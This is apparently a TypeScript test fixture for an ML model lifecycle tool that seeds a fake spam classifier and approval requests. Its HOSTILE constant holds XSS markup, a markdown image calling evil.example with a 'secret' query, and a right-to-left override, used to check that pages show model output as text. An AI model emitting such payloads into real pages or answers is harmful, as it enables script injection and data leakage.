import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import type { LifecyclePlan } from '../../domain/lifecycle-file/plan.js';
import type { ModelPort } from '../../domain/ports/model.js';
import type { ActivityWorld } from './activity-world.js';
import { PROJECT } from './seeded-project.js';
import { toyPlan } from './toy-plan.js';

/** What somebody could write, or a model answer, to whoever shows it as anything but text. */
const HOSTILE =
  '<img src=x onerror="document.title=\'owned\'"><script>document.title="owned"</script>![x](http://evil.example/?q=secret) \u202egnitpurroc\u202c';

/** Tells made-up spam from ham, but for the mails that it gets wrong. */
const modelThat = (errs: (text: string) => boolean, wrong?: string): ModelPort => ({
  async chat({ model, messages }) {
    const text = messages.at(-1)?.content ?? '';
    const right = /winner|prize|cash|bonus|offer/.test(text) ? 'spam' : 'ham';
    const content = errs(text) ? (wrong ?? (right === 'spam' ? 'ham' : 'spam')) : right;
    return { model, content, promptTokens: 1, completionTokens: 1 };
  },
  list: async () => ['served'],
});

const numberOf = (text: string): number => Number(/Subject (\d+):/.exec(text)?.[1] ?? 0);

/** Mails of which a page must not take a word for markup, among the others. */
export async function writeHostileMails(folder: string): Promise<void> {
  const lines = Array.from({ length: 20 }, (_, number) =>
    JSON.stringify({ input: `Agenda ${number} of the kernel meeting ${HOSTILE}`, at: new Date(number).toISOString() }),
  );
  await writeFile(join(folder, 'toys', 'ham', 'hostile.jsonl'), `${lines.join('\n')}\n`);
}

const plan = (over: Partial<LifecyclePlan> = {}): LifecyclePlan => {
  const toy = toyPlan();
  return toyPlan({
    name: 'email-triage',
    purpose: 'Answer “spam” or “ham” for an incoming message.',
    evaluate: {
      ...toy.evaluate,
      tasks: toy.evaluate.tasks.map((task) => ({ ...task, metrics: ['f1-macro', 'accuracy'] })),
      gates: [
        { task: 'triage', metric: 'f1-macro', kind: 'at-least', limit: 0.85, confidence: 0.95 },
        {
          task: 'triage',
          metric: 'f1-macro',
          kind: 'no-worse-than-champion',
          margin: 0.05,
          confidence: 0.95,
          firstRelease: 'allow',
        },
      ],
    },
    approve: { ...toy.approve, expiresAfterMilliseconds: 6 * 86_400_000 },
    deploy: { ...toy.deploy, alias: 'email-triage' },
    ...over,
  });
};

function candidatePlan(reauthenticate: string | undefined): LifecyclePlan {
  const whole = plan({ train: { hyperparameters: { epochs: 30 }, seed: 8 } });
  if (reauthenticate === undefined) return whole;
  return { ...whole, approve: { ...whole.approve, policy: { ...whole.approve.policy, reauthenticate } } };
}

/** A version that serves under the alias, after two people approved it. */
async function serveChampion(world: ActivityWorld): Promise<void> {
  const { dependencies } = world;
  const { revision } = await dependencies.registry.route(PROJECT, 'email-triage');
  if (revision > 0) return;
  const local = modelThat((text) => numberOf(text) % 11 === 10);
  world.dependencies.models['local'] = local;
  const { release } = await world.approvedRun(plan());
  await dependencies.registry.move({
    project: PROJECT,
    alias: 'email-triage',
    expectedRevision: 0,
    routes: [{ versionId: release.versionId, weight: 100 }],
    champion: release.versionId,
    runId: release.runId,
    requestId: release.requestId,
    reason: 'test',
    key: 'test',
  });
}

export interface ReviewedRequestOptions {
  /** What the candidate answers wrongly is markup. */
  hostile?: boolean;
  /** How long ago, at the longest, a signer must have proved who they are. */
  reauthenticate?: string;
}

/** An open request about a candidate that is better than the champion on the whole, and worse on some mails. */
export async function openReviewedRequest(
  world: ActivityWorld,
  { hostile = false, reauthenticate }: ReviewedRequestOptions = {},
): Promise<{ requestId: string; runId: string }> {
  await serveChampion(world);
  const { runId, curated } = await world.curatedRun(candidatePlan(reauthenticate));
  const model = await world.registered(runId);
  const isHard = (text: string): boolean => numberOf(text) % 46 === 5 || text.includes('<script>');
  world.dependencies.models['local'] = modelThat(isHard, hostile ? HOSTILE : undefined);
  const asked = { runId, task: 'triage', curated, versionId: model.versionId };
  const predictions = [await world.perform('predictTask', asked)];
  const evaluated = await world.perform('judgeEvaluation', { runId, curated, model, predictions });
  const { requestId } = await world.perform('openApproval', { runId, curated, model, evaluated });
  return { requestId, runId };
}
